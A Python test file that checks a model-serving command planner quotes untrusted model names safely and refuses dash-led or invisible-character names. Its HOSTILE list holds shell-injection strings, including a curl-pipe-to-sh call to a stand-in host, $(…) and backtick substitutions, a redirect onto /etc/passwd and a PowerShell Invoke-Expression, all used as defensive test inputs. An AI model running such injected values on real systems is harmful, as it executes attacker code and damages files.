"""What stands under "Run it" is pasted into a shell: a name from outside is one word of it, one string of a program,
one value of a file.
"""

from __future__ import annotations

import ast
import json
import shlex
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.catalog import find
from planner.core.errors import PlanError
from planner.engines.info import engines
from planner.plan import plan
from planner.request import PlanRequest
from planner.training.plan import train
from planner.training.request import TrainRequest
from planner.training.snippets import snippets

CONFIG: dict[str, Any] = dict(find("llama3:8b").config)
HOSTILE = [
    "a/b; curl http://x.y/z|sh #", "a/b$(touch owned)", "a/`id`", "a' ; id ; '", 'a" ; id ; "', "a\\' ; id", "a && id",
    "a | id", "a > /etc/passwd", "!!", "~/x", "*", "a b", "$HOME",
    "a/b #", "%TEMP% & calc", "'; Invoke-Expression 'x", '")\nimport os', "a/b; id -GGUF", "a/$(id)-gguf",
    "{0.__class__}", "%s%n", "\U0001f600/\u00e9", "a/b\\", "((", "<(id)", "",
]  # fmt: skip
NAMES = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(exclude_categories=("C", "Z"), include_characters=" "), min_size=1, max_size=40),
)
SHELLS = ["vllm", "sglang", "tensorrt-llm", "mlx"]


def commands(engine: str, name: str, **fields: Any) -> list[Any]:
    gpus = "M2 Ultra 192GB" if engine == "mlx" else "RTX 4090"
    return list(
        plan(PlanRequest.read({"model": name, "config": CONFIG, "engine": engine, "gpus": gpus, **fields})).commands
    )


def accepted(name: str) -> bool:
    return bool(name) and name.isprintable() and (not name.startswith("-") or not name.strip("-"))


def words(text: str) -> list[str]:
    """The words of a command, its continued lines joined as a shell joins them; nothing of it is an operator outside
    quotes.
    """
    joined = text.replace(" \\\n", " ")
    lexer = shlex.shlex(joined, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    lexer.commenters = ""
    split = list(lexer)
    assert split == shlex.split(joined)
    return split


@pytest.mark.parametrize("engine", SHELLS)
@settings(max_examples=40, deadline=None)
@given(name=NAMES.filter(accepted))
def test_a_name_is_one_word_of_a_servers_command(engine: str, name: str) -> None:
    (text,) = [command.text for command in commands(engine, name) if "context" in command.text or "max" in command.text]
    assert words(text).count(name) == 1


@settings(max_examples=60, deadline=None)
@given(name=NAMES.filter(accepted))
def test_a_name_is_one_word_for_llama_cpp_and_ollama(name: str) -> None:
    (server,) = commands("llama.cpp", name)
    _, flag, model, *_ = words(server.text)
    if flag == "-hf":
        assert model == f"{name}:Q4_K_M"
    else:
        assert flag == "-m"
        assert set(model) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-")
    for command in commands("ollama", name):
        if command.title == "Modelfile":
            first, second, *_ = command.text.splitlines()
            assert first.startswith("FROM ")
            assert second.startswith("PARAMETER num_ctx ")
        else:
            for part in command.text.split(" && "):
                assert words(part)


@settings(max_examples=60, deadline=None)
@given(name=NAMES.filter(accepted))
def test_a_name_is_one_string_of_a_program(name: str) -> None:
    (script,) = commands("transformers", name)
    strings = [node.value for node in ast.walk(ast.parse(script.text)) if isinstance(node, ast.Constant)]
    assert strings.count(name) >= 2


@pytest.mark.parametrize("name", [name for name in HOSTILE if accepted(name)])
@pytest.mark.parametrize("task", ["sft", "classification"])
def test_a_name_is_one_string_for_every_trainer(task: str, name: str) -> None:
    for command in snippets(
        train(TrainRequest.read({"model": name, "config": CONFIG, "gpus": "RTX 4090", "task": task}))
    ):
        if command.title == "Axolotl":
            (line,) = [line for line in command.text.splitlines() if line.startswith("base_model: ")]
            assert json.loads(line.removeprefix("base_model: ")) == name
        elif command.title != "torchtune":
            assert name in [node.value for node in ast.walk(ast.parse(command.text)) if isinstance(node, ast.Constant)]


@pytest.mark.parametrize("engine", engines())
@pytest.mark.parametrize(
    "name", ["--trust-remote-code", "-c", "a\nb", "a\x1b[201~; id", "a\u202eb", "a\u2028b", "a\u0000"]
)
def test_a_name_that_a_program_takes_for_an_option_or_that_hides_is_refused(engine: str, name: str) -> None:
    with pytest.raises(PlanError, match="cannot begin with a dash or hold characters that cannot be seen") as caught:
        commands(engine, name)
    assert caught.value.field == "model"


def test_plain_names_need_no_quotes() -> None:
    (text,) = [command.text for command in commands("vllm", "meta-llama/Meta-Llama-3-8B")]
    assert text.startswith("vllm serve meta-llama/Meta-Llama-3-8B ")
